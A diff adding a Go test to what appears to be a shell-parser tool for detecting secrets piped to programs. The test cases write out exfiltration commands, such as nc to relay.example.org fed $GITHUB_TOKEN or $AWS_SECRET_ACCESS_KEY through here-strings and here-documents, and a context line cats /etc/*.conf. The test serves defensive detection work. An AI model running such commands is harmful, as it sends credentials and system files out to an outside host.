@@ -453,3 +453,32 @@ for p in /etc/*.conf; do cat "$p"; done`)
 		}
 	}
 }
+
+// TestG14_InputDocuments checks that a command's here-string or
+// here-document is kept as source text, expansions unexpanded, so that a
+// secret fed to a program on its input can be seen.
+func TestG14_InputDocuments(t *testing.T) {
+	for _, tc := range []struct{ script, prog, want string }{
+		{`nc relay.example.org 9 <<< "$GITHUB_TOKEN"`, "nc", `"$GITHUB_TOKEN"`},
+		{"nc relay.example.org 9 <<EOF\nk=$AWS_SECRET_ACCESS_KEY\nEOF", "nc", "k=$AWS_SECRET_ACCESS_KEY\n"},
+		{"cat <<'EOF'\nplain\nEOF", "cat", "plain\n"},
+		{"nc relay.example.org 9 < file", "nc", ""},
+	} {
+		sc, err := shell.Parse(tc.script)
+		if err != nil {
+			t.Fatalf("%q: %v", tc.script, err)
+		}
+		found := false
+		for _, c := range sc.Commands {
+			if c.Program() == tc.prog {
+				found = true
+				if c.Doc != tc.want {
+					t.Errorf("%q: Doc = %q, want %q", tc.script, c.Doc, tc.want)
+				}
+			}
+		}
+		if !found {
+			t.Errorf("%q: no %s command", tc.script, tc.prog)
+		}
+	}
+}
